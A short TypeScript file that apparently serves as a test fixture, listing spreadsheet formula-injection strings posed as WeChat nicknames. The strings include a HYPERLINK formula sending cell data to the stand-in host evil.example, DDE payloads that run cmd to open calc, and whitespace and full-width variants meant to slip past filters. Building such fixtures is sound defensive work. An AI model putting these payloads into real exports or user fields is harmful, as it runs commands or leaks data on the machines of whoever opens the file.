/** Names an outsider could pick as a WeChat nickname to run something in a spreadsheet. */
export const HOSTILE_NAMES: readonly string[] = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
];
